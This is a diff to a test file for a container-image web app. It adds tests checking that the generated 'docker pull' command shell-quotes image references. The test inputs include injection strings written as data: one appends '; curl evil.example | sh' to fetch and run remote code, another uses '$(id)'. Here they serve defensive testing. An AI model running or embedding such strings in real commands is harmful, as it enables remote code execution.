@@ -4,6 +4,7 @@ import {
   dockerPullCommand,
   launchableTypes,
   pullReference,
+  shellQuote,
   shortDigest,
 } from './image-reference';
 import { parseRepositorySplat, readPageParam } from './route-params';
@@ -11,6 +12,24 @@ import { parseRepositorySplat, readPageParam } from './route-params';
 const DIGEST = 'sha256:5b0f7c2e9d3a41f6a8e2c1d94b7a60e3f2c8d19a4e6b3c7f0a1d2e3f4a5b6c7d';
 const tagged = { digest: DIGEST, tags: [{ name: '26.03' }, { name: 'latest' }] };
 const untagged = { digest: DIGEST, tags: [] };
+
+describe('the docker pull command', () => {
+  it('leaves a plain reference as it is', () => {
+    expect(dockerPullCommand(`images.canfar.net:5000/skaha/astro_ml-1:26.03@${DIGEST}`)).toBe(
+      `docker pull images.canfar.net:5000/skaha/astro_ml-1:26.03@${DIGEST}`,
+    );
+  });
+
+  it('single-quotes a reference with anything a shell would read, escaping its quotes', () => {
+    expect(dockerPullCommand('h/p/r:1; curl evil.example | sh')).toBe(
+      "docker pull 'h/p/r:1; curl evil.example | sh'",
+    );
+    expect(dockerPullCommand("h/p/it's:$(id)")).toBe("docker pull 'h/p/it'\\''s:$(id)'");
+    expect(shellQuote('a b')).toBe("'a b'");
+    expect(shellQuote('`x`')).toBe("'`x`'");
+    expect(shellQuote('')).toBe("''");
+  });
+});
 
 describe('image references', () => {
   it('pulls by the tag the user came by, else the first tag, else by digest', () => {
